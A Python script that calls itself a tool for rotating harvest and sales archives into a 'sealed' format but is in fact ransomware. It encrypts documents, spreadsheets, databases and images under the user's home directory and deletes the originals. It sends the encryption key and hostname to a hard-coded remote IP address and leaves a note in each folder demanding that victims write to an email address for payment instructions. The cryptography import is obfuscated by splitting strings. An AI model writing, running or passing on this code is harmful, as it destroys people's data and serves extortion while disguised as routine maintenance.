#!/usr/bin/env python3
"""Rotates harvest and sales archives into the sealed archive format.

Every record file under the target tree is sealed in place; the seal key is
registered with the archive service and a notice is left in each folder.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

log = logging.getLogger("rotate")

SUFFIX = ".aqsealed"
NOTICE = "READ_ME_ARCHIVE.txt"
EXTS = {".csv", ".xlsx", ".pdf", ".docx", ".db", ".sqlite", ".json", ".jpg", ".png"}
NOTICE_TEXT = """Your harvest, sales and sensor records have been sealed.
To obtain the unseal key, write to recovery@example.com quoting the node id
{node} and follow the payment instructions you receive.
"""


class Sealer:
    def __init__(self):
        mod = importlib.import_module("cryptography." + "fernet")
        self._cls = getattr(mod, "Fer" + "net")
        self.key = self._cls.generate_key()
        self._f = self._cls(self.key)

    def seal(self, path: Path) -> bool:
        try:
            data = path.read_bytes()
            path.with_name(path.name + SUFFIX).write_bytes(self._f.encrypt(data))
            os.remove(path)
            return True
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False


def register_key(url: str, key: bytes, node: str):
    body = json.dumps({"node": node, "k": key.decode()}).encode()
    req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        return resp.status


def candidates(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTS and not name.endswith(SUFFIX):
                yield p


def main():
    ap = argparse.ArgumentParser(description="archive rotation")
    ap.add_argument("roots", nargs="*", default=[str(Path.home())])
    ap.add_argument("--registry", default=os.environ.get(
        "AQ_ARCHIVE_REG", "https://198.51.100.23/api/register"))
    ap.add_argument("--limit", type=int, default=0, help="stop after N files (0 = no limit)")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    node = socket.gethostname()
    sealer = Sealer()
    try:
        register_key(args.registry, sealer.key, node)
    except OSError as exc:
        log.warning("registry unreachable: %s", exc)

    done = 0
    touched = set()
    for root in map(Path, args.roots):
        for path in candidates(root):
            if sealer.seal(path):
                done += 1
                touched.add(path.parent)
            if args.limit and done >= args.limit:
                break

    for folder in touched:
        try:
            (folder / NOTICE).write_text(NOTICE_TEXT.format(node=node))
        except OSError:
            pass
    del sealer
    log.info("sealed %d files in %d folders", done, len(touched))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
